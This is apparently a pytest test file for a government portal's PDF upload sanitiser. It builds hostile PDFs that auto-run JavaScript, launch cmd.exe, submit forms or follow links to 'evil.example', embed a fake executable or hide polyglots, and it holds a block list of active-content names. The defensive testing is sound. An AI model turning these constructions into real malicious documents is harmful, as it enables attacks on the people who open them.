"""Disarm and rebuild: a corpus of hostile PDFs built here, and ordinary scans.

Each hostile file must be refused or come out with no active content, checked
by re-parsing the stored bytes with pikepdf and walking every object (a walk
written here, independent of the one in portal/applications/pdf.py).
"""

from __future__ import annotations

import io
import random
import zipfile
import zlib

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Pdf
from PIL import Image

from portal.applications import pdf as pdf_module
from portal.applications.documents import get_storage, serve_document
from portal.applications.uploads import UploadRejected, inspect_upload
from portal.demo.samples import pdf_bytes
from portal.models import Application, Document
from tests.applications.test_applications_views import upload
from tests.factories import make_citizen, make_program
from tests.support.html import html

PAYLOAD = b"app.alert('hola')"
FORBIDDEN_NAMES = {
    "/JavaScript", "/JS", "/Launch", "/URI", "/SubmitForm", "/GoToR", "/GoToE",
    "/ImportData", "/Rendition", "/EmbeddedFile", "/EmbeddedFiles", "/EF", "/XFA",
    "/RichMedia", "/RichMediaContent", "/FileAttachment", "/OpenAction", "/AA", "/Movie",
    "/Sound", "/Screen", "/ResetForm", "/AF",
}  # fmt: skip
FORBIDDEN_BYTES = (PAYLOAD, b"cmd.exe", b"evil.example", b"<script", b"MZ\x90")


# Building files -------------------------------------------------------------


def classic(objects: list[bytes], trailer_extra: bytes = b"") -> bytes:
    """Objects numbered from 1 (the first the catalog), classic xref table."""
    return pdf_bytes(objects, header=b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", trailer_extra=trailer_extra)


def with_object_stream(
    direct: list[bytes],
    packed: list[bytes],
    *,
    filters: int = 1,
    padding: int = 0,
) -> bytes:
    """A PDF 1.5 file with a cross-reference stream: ``direct`` objects are
    numbered from 1 (the first the catalog), then the object stream, whose
    ``packed`` objects follow it. Its data is deflated ``filters`` times and
    declared as that many chained /FlateDecode filters; ``padding`` bytes of
    a junk string pad its dictionary."""
    first_packed = len(direct) + 2
    numbers = list(range(first_packed, first_packed + len(packed)))
    header_parts, body, offset = [], b"", 0
    for number, obj in zip(numbers, packed, strict=True):
        header_parts.append(b"%d %d" % (number, offset))
        body += obj + b"\n"
        offset = len(body)
    header = b" ".join(header_parts) + b"\n"
    data = header + body
    for _ in range(filters):
        data = zlib.compress(data)
    filter_array = b"[" + b" ".join([b"/FlateDecode"] * filters) + b"]" if filters else b"[]"
    pad = b"/Padding (" + b"x" * padding + b") " if padding else b""
    objstm = (
        b"<< " + pad + b"/Type /ObjStm /N %d /First %d /Filter " % (len(packed), len(header))
        + filter_array
        + b" /Length %d >>\nstream\n" % len(data)
        + data
        + b"\nendstream"
    )  # fmt: skip
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, obj in enumerate([*direct, objstm], start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + obj + b"\nendobj\n")
    xref_number = first_packed + len(packed)
    offsets_xref = out.tell()
    rows = [b"\x00" + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big")]
    rows += [b"\x01" + o.to_bytes(4, "big") + b"\x00\x00" for o in offsets]
    rows += [
        b"\x02" + (first_packed - 1).to_bytes(4, "big") + i.to_bytes(2, "big")
        for i in range(len(packed))
    ]
    rows.append(b"\x01" + offsets_xref.to_bytes(4, "big") + b"\x00\x00")
    table = b"".join(rows)
    out.write(
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % (xref_number, xref_number + 1, len(table))
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets_xref
    )
    return out.getvalue()


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"


def one_page(catalog_extra: bytes = b"", page_extra: bytes = b"", extra: list[bytes] = ()):
    """Catalog 1, pages 2, page 3, then ``extra`` from 4 on."""
    return classic(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
            PAGES,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] " + page_extra + b">>",
            *extra,
        ]
    )


def stream(content: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d " % len(content) + extra + b">>\nstream\n" + content + b"\nendstream"


def pillow_pdf(pages: int = 1, size=(850, 1100)) -> bytes:
    """What phone scanner apps make: one JPEG image per page (Pillow's writer)."""
    images = []
    for n in range(pages):
        image = Image.new("RGB", size, (250, 250, 245))
        for x in range(50, size[0] - 50, 7):
            image.putpixel((x, 100 + 40 * n), (20, 20, 20))
        images.append(image)
    output = io.BytesIO()
    images[0].save(output, "PDF", save_all=True, append_images=images[1:], resolution=150)
    return output.getvalue()


def flate_wrapped_jpeg_scan() -> bytes:
    """A scanner that deflates its JPEG pages again: [/FlateDecode /DCTDecode]."""
    rng = random.Random(7)
    image = Image.frombytes("L", (900, 900), rng.randbytes(900 * 900))
    jpeg = io.BytesIO()
    image.save(jpeg, "JPEG", quality=90)
    pdf = pikepdf.new()
    xobject = pikepdf.Stream(pdf, zlib.compress(jpeg.getvalue()))
    xobject.Type, xobject.Subtype = Name.XObject, Name.Image
    xobject.Width, xobject.Height = 900, 900
    xobject.ColorSpace, xobject.BitsPerComponent = Name.DeviceGray, 8
    xobject.Filter = Array([Name.FlateDecode, Name.DCTDecode])
    page = pdf.add_blank_page(page_size=(595, 595))
    page.obj.Resources = Dictionary(XObject=Dictionary(Im0=xobject))
    page.obj.Contents = pikepdf.Stream(pdf, b"q 595 0 0 595 0 0 cm /Im0 Do Q")
    output = io.BytesIO()
    pdf.save(output)
    data = output.getvalue()
    assert len(data) > pdf_module.MAX_RARE_FILTER_BYTES
    return data


def pikepdf_scan(pages: int = 3) -> bytes:
    """A multi-page scan written by pikepdf with object streams: each page an
    image XObject drawn by a content stream, plus a document outline."""
    pdf = pikepdf.new()
    for n in range(pages):
        image = Image.new("L", (300, 400), 255 - 40 * n)
        jpeg = io.BytesIO()
        image.save(jpeg, "JPEG", quality=80)
        xobject = pikepdf.Stream(pdf, jpeg.getvalue())
        xobject.Type, xobject.Subtype = Name.XObject, Name.Image
        xobject.Width, xobject.Height = 300, 400
        xobject.ColorSpace, xobject.BitsPerComponent = Name.DeviceGray, 8
        xobject.Filter = Name.DCTDecode
        content = pikepdf.Stream(pdf, b"q 595 0 0 842 0 0 cm /Im0 Do Q")
        page = pdf.add_blank_page(page_size=(595, 842))
        page.obj.Resources = Dictionary(XObject=Dictionary(Im0=xobject))
        page.obj.Contents = content
    output = io.BytesIO()
    pdf.save(output, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return output.getvalue()


# Checking what is stored ----------------------------------------------------


def walk(obj, seen: set[tuple[int, int]], found: list[str]) -> None:
    if isinstance(obj, str | bytes):
        found.extend(f"string {p!r}" for p in FORBIDDEN_BYTES if p.decode() in str(obj))
        return
    if not isinstance(obj, pikepdf.Object):
        return  # numbers and booleans
    if obj.is_indirect:
        if obj.objgen in seen:
            return
        seen.add(obj.objgen)
    if isinstance(obj, pikepdf.Stream):
        try:
            data = obj.read_bytes()
        except pikepdf.PdfError:  # images only readers decode (JPEG)
            data = obj.read_raw_bytes()
        found.extend(f"bytes {pattern!r}" for pattern in FORBIDDEN_BYTES if pattern in data)
        obj = obj.stream_dict
    if isinstance(obj, Dictionary):
        for key in obj.keys():
            if key in FORBIDDEN_NAMES:
                found.append(f"key {key}")
            walk(obj[key], seen, found)
    elif isinstance(obj, Array):
        for item in obj:
            walk(item, seen, found)
    elif isinstance(obj, Name) and str(obj) in FORBIDDEN_NAMES:
        found.append(f"name {obj}")
    elif isinstance(obj, pikepdf.String):
        found.extend(f"string {pattern!r}" for pattern in FORBIDDEN_BYTES if pattern in bytes(obj))


def active_content(stored: bytes) -> list[str]:
    """Everything hostile in the stored bytes: every object of the file (not
    only those reachable from the catalog) and the raw bytes."""
    found = [f"raw {pattern!r}" for pattern in FORBIDDEN_BYTES if pattern in stored]
    with Pdf.open(io.BytesIO(stored)) as pdf:
        assert not pdf.is_encrypted
        seen: set[tuple[int, int]] = set()
        walk(pdf.trailer, seen, found)
        for obj in pdf.objects:
            walk(obj, seen, found)
    return found


def stored_or_refused(data: bytes) -> bytes | UploadRejected:
    try:
        return inspect_upload(data, "documento.pdf").data
    except UploadRejected as refused:
        return refused


# The hostile corpus ---------------------------------------------------------

JS = b"<< /S /JavaScript /JS (" + PAYLOAD + b") >>"
LAUNCH = b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"
URI = b"<< /S /URI /URI (https://evil.example/robar) >>"
SUBMIT = b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/form) >> >>"
GOTOR = b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>"
IMPORT = b"<< /S /ImportData /F (cmd.exe) >>"
RENDITION = b"<< /S /Rendition /OP 0 /JS (" + PAYLOAD + b") >>"
EMBEDDED = stream(b"MZ\x90\x00 executable", b"/Type /EmbeddedFile ")
FILESPEC = b"<< /Type /Filespec /F (factura.exe) /UF (factura.exe) /EF << /F 5 0 R >> >>"
XFA = stream(
    b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform>'
    b"<event activity='initialize'><script contentType='application/x-javascript'>"
    + PAYLOAD
    + b"</script></event></subform></template></xdp:xdp>"
)
ANNOT = b"/Type /Annot /Rect [0 0 100 100] "

HOSTILE = {
    "js-objstm-two-flate-filters": with_object_stream(
        [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>", PAGES, PAGE],
        [JS],
        filters=2,
    ),
    "launch-objstm-two-flate-filters": with_object_stream(
        [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>", PAGES, PAGE],
        [LAUNCH],
        filters=2,
    ),
    "js-behind-dictionary-padded-past-4kb": with_object_stream(
        [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>", PAGES, PAGE],
        [JS],
        padding=5000,
    ),
    "launch-in-padded-dictionary": one_page(
        b"/OpenAction 4 0 R", extra=[LAUNCH[:-2] + b"/Pad (" + b"y" * 5000 + b") >>"]
    ),
    "xfa-script": one_page(
        b"/AcroForm << /Fields [] /XFA 4 0 R >> /NeedsRendering true", extra=[XFA]
    ),
    "xfa-packets": one_page(b"/AcroForm << /Fields [] /XFA [(template) 4 0 R] >>", extra=[XFA]),
    "openaction-uri": one_page(b"/OpenAction 4 0 R", extra=[URI]),
    "openaction-submitform": one_page(b"/OpenAction 4 0 R", extra=[SUBMIT]),
    "openaction-gotor": one_page(b"/OpenAction 4 0 R", extra=[GOTOR]),
    "openaction-launch": one_page(b"/OpenAction 4 0 R", extra=[LAUNCH]),
    "openaction-importdata": one_page(b"/OpenAction 4 0 R", extra=[IMPORT]),
    "openaction-rendition": one_page(b"/OpenAction 4 0 R", extra=[RENDITION]),
    "openaction-chain-next": one_page(
        b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>", extra=[JS]
    ),
    "document-aa-uri": one_page(b"/AA << /WC 4 0 R /DP 4 0 R >>", extra=[URI]),
    "document-aa-submitform": one_page(b"/AA << /WS 4 0 R >>", extra=[SUBMIT]),
    "page-aa-gotor": one_page(page_extra=b"/AA << /O 4 0 R /C 4 0 R >>", extra=[GOTOR]),
    "page-aa-launch": one_page(page_extra=b"/AA << /O 4 0 R >>", extra=[LAUNCH]),
    "annotation-aa-js": one_page(
        page_extra=b"/Annots [4 0 R]",
        extra=[b"<< " + ANNOT + b"/Subtype /Widget /FT /Btn /T (b) /AA << /E 5 0 R >> >>", JS],
    ),
    "link-uri": one_page(
        page_extra=b"/Annots [4 0 R]",
        extra=[b"<< " + ANNOT + b"/Subtype /Link /A 5 0 R >>", URI],
    ),
    "link-launch-inline": one_page(
        page_extra=b"/Annots [<< " + ANNOT + b"/Subtype /Link /A " + LAUNCH + b" >>]"
    ),
    "javascript-name-tree": one_page(
        b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", extra=[JS]
    ),
    "embedded-files-name-tree": one_page(
        b"/Names << /EmbeddedFiles << /Names [(factura.exe) 4 0 R] >> >>",
        extra=[FILESPEC, EMBEDDED],
    ),
    "file-attachment-annotation": one_page(
        page_extra=b"/Annots [6 0 R]",
        extra=[
            FILESPEC,
            EMBEDDED,
            b"<< " + ANNOT + b"/Subtype /FileAttachment /FS 4 0 R /Contents (abrir) >>",
        ],
    ),
    "associated-files": one_page(b"/AF [4 0 R]", extra=[FILESPEC, EMBEDDED]),
    "richmedia": one_page(
        page_extra=b"/Annots [4 0 R]",
        extra=[
            b"<< " + ANNOT + b"/Subtype /RichMedia /RichMediaContent << /Assets << /Names "
            b"[(a.swf) 5 0 R] >> >> >>",
            FILESPEC.replace(b"factura.exe", b"a.swf").replace(b"5 0 R", b"6 0 R"),
            EMBEDDED,
        ],
    ),
    "outline-item-js": one_page(
        b"/Outlines 4 0 R",
        extra=[
            b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
            b"<< /Title (Inicio) /Parent 4 0 R /A 6 0 R >>",
            JS,
        ],
    ),
    "escaped-names": one_page(b"/OpenAction << /S /J#61vaScript /J#53 (" + PAYLOAD + b") >>"),
}


@pytest.mark.parametrize("data", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_pdfs_are_stored_without_any_active_content(data):
    result = stored_or_refused(data)
    assert not isinstance(result, UploadRejected), result.code
    assert active_content(result) == []
    # The page survives.
    with Pdf.open(io.BytesIO(result)) as pdf:
        assert len(pdf.pages) == 1
        assert [float(v) for v in pdf.pages[0].MediaBox] == [0, 0, 612, 792]


def test_the_corpus_is_really_hostile():
    """Without the disarm, every file in the corpus holds active content that
    the walk used above finds: the test above cannot pass vacuously."""
    for name, data in HOSTILE.items():
        assert active_content(data), name


@pytest.mark.parametrize(
    ("name", "removed"),
    [
        ("openaction-uri", {"links"}),
        ("js-objstm-two-flate-filters", {"scripts"}),
        ("embedded-files-name-tree", {"attachments"}),
        ("xfa-script", {"forms"}),
        ("page-aa-launch", {"actions"}),
    ],
)
def test_the_person_is_told_what_was_removed(name, removed):
    assert pdf_module.disarm(HOSTILE[name]).removed >= removed
    notice = inspect_upload(HOSTILE[name], "a.pdf").notice
    assert notice is not None
    assert str(notice).startswith("Por seguridad quitamos del PDF ")


def test_a_clean_pdf_has_no_notice():
    assert inspect_upload(pillow_pdf(), "escaneo.pdf").notice is None


def encrypted(user: str, owner: str) -> bytes:
    output = io.BytesIO()
    with Pdf.open(io.BytesIO(pikepdf_scan(1))) as pdf:
        pdf.Root.OpenAction = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=PAYLOAD))
        pdf.save(output, encryption=pikepdf.Encryption(user=user, owner=owner, R=6))
    return output.getvalue()


def test_a_pdf_that_needs_a_password_to_open_is_refused_with_what_to_do():
    result = stored_or_refused(encrypted(user="secreto", owner="secreto"))
    assert isinstance(result, UploadRejected)
    assert result.code == "pdf_encrypted"
    assert "guarde el archivo sin contraseña" in result.message


def test_a_pdf_with_only_an_owner_password_is_rebuilt_unencrypted():
    result = stored_or_refused(encrypted(user="", owner="dueño"))
    assert not isinstance(result, UploadRejected)
    assert b"/Encrypt" not in result
    assert active_content(result) == []


def zip_bytes() -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.writestr("index.html", "<script>alert(1)</script>")
    return output.getvalue()


def jpeg_bytes() -> bytes:
    output = io.BytesIO()
    Image.new("RGB", (16, 16), "red").save(output, "JPEG")
    return output.getvalue()


REFUSED = {
    "truncated-half": (pillow_pdf()[:4000], "damaged"),
    "truncated-before-eof": (pillow_pdf()[:-40], "damaged"),
    "truncated-objstm": (HOSTILE["js-objstm-two-flate-filters"][:-60], "damaged"),
    "html-after-header": (
        b"%PDF-1.7\n<html><body><script>alert(document.cookie)</script></body></html>\n%%EOF\n",
        "damaged",
    ),
    "html-after-header-no-eof": (b"%PDF-1.4\n<!doctype html><html><script>x()</script>", "damaged"),
    "pdf-then-zip": (pillow_pdf() + zip_bytes(), "damaged"),
    "pdf-then-jpeg": (pillow_pdf() + jpeg_bytes(), "damaged"),
    "no-pages": (
        classic([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]),
        "damaged",
    ),
}


@pytest.mark.parametrize(("data", "code"), REFUSED.values(), ids=REFUSED.keys())
def test_files_that_are_not_readable_pdfs_are_refused(data, code):
    result = stored_or_refused(data)
    assert isinstance(result, UploadRejected)
    assert result.code == code
    assert result.message.startswith("El PDF está incompleto o dañado.")


def test_a_broken_cross_reference_table_is_repaired_and_stored_correct():
    data = one_page().replace(b"0000000015", b"0000000999")
    stored = inspect_upload(data, "a.pdf").data
    with Pdf.open(io.BytesIO(stored), attempt_recovery=False) as pdf:
        assert len(pdf.pages) == 1


ZIP, JPEG = zip_bytes(), jpeg_bytes()


@pytest.mark.parametrize(
    "data",
    [
        one_page(extra=[stream(ZIP), stream(JPEG)]),
        pillow_pdf() + ZIP + JPEG + b"\n%%EOF\n",
    ],
    ids=["unused-objects", "appended-then-eof-again"],
)
def test_a_zip_or_jpeg_hidden_inside_a_pdf_is_left_behind(data):
    # Polyglots that are still PDFs: the payloads are not objects the
    # catalog reaches, so the rebuild does not write them.
    assert ZIP in data and JPEG in data
    stored = inspect_upload(data, "a.pdf").data
    assert b"PK\x03\x04" not in stored and JPEG not in stored
    assert active_content(stored) == []


def test_a_pdf_with_more_pages_than_allowed_is_refused():
    with pytest.raises(pdf_module.PdfRefused) as refused:
        pdf_module.disarm(pikepdf_scan(3), max_pages=2)
    assert refused.value.code == "pdf_too_many_pages"
    assert "3 páginas" in str(refused.value.message)


def test_a_corrupt_stream_is_refused():
    broken = b"x\x9c" + b"\x00garbage that is not deflate" * 4
    data = one_page(page_extra=b"/Contents 4 0 R", extra=[stream(broken, b"/Filter /FlateDecode ")])
    result = stored_or_refused(data)
    assert isinstance(result, UploadRejected)
    assert result.code == "damaged"


# Ordinary scans look the same -----------------------------------------------


def page_facts(data: bytes) -> list[tuple[list[float], bytes, list[bytes]]]:
    """Per page: media box, decoded content, decoded images."""
    facts = []
    with Pdf.open(io.BytesIO(data)) as pdf:
        for page in pdf.pages:
            box = [float(v) for v in page.MediaBox]
            content = page.obj.Contents
            parts = list(content) if isinstance(content, Array) else [content]
            decoded = b"".join(part.read_bytes() for part in parts)
            images = [
                xobject.read_raw_bytes()
                for xobject in page.Resources.get("/XObject", Dictionary()).values()
                if xobject.get("/Subtype") == Name.Image
            ]
            facts.append((box, decoded, images))
    return facts


SCANS = {
    "pillow-one-page": pillow_pdf(1),
    "pillow-multi-page": pillow_pdf(4),
    "pikepdf-object-streams": pikepdf_scan(3),
    "flate-wrapped-jpeg": flate_wrapped_jpeg_scan(),
    "hand-written-text": one_page(
        page_extra=b"/Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >>",
        extra=[
            stream(b"BT /F1 14 Tf 40 760 Td (Acta de nacimiento) Tj ET"),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ],
    ),
}


@pytest.mark.parametrize("data", SCANS.values(), ids=SCANS.keys())
def test_ordinary_scans_are_accepted_and_look_the_same(data):
    clean = inspect_upload(data, "escaneo.pdf")
    assert clean.kind == "pdf"
    assert clean.notice is None
    assert clean.data != data  # always the rebuilt file
    before, after = page_facts(data), page_facts(clean.data)
    assert after == before
    assert all(images for _, _, images in after) or not any(i for _, _, i in before)


def test_a_scan_keeps_its_document_outline():
    # Outline items chain with /Next: that is not an action and must stay.
    pdf = Pdf.open(io.BytesIO(pikepdf_scan(2)))
    with pdf.open_outline() as outline:
        outline.root.extend([pikepdf.OutlineItem("Frente", 0), pikepdf.OutlineItem("Reverso", 1)])
    output = io.BytesIO()
    pdf.save(output)
    stored = inspect_upload(output.getvalue(), "ine.pdf").data
    with Pdf.open(io.BytesIO(stored)) as rebuilt, rebuilt.open_outline() as outline:
        assert [item.title for item in outline.root] == ["Frente", "Reverso"]


# Through the portal: what is stored and what staff open ----------------------


def test_an_uploaded_hostile_pdf_is_stored_rebuilt_and_the_person_is_told(app, login):

    citizen = make_citizen()
    program = make_program()
    client = login(citizen)
    page = html(client.get(f"/programas/{program.slug}/solicitar"))
    key = page.find("input", {"name": "idempotency_key"})["value"]
    client.post(f"/programas/{program.slug}/solicitar", data={"idempotency_key": key})
    application = Application.get(Application.idempotency_key == key)
    hostile = HOSTILE["launch-objstm-two-flate-filters"]

    response = upload(client, application, program.requirements[0], hostile, "acta.pdf")

    assert response.status_code == 303
    shown = html(client.get(response.headers["Location"])).get_text()
    assert "Por seguridad quitamos del PDF acciones automáticas" in shown
    document = Document.get(Document.application == application)
    stored = get_storage().get(document.storage_key)
    assert stored != hostile
    assert active_content(stored) == []
    with app.test_request_context():
        assert serve_document(document, inline=True).get_data() == stored
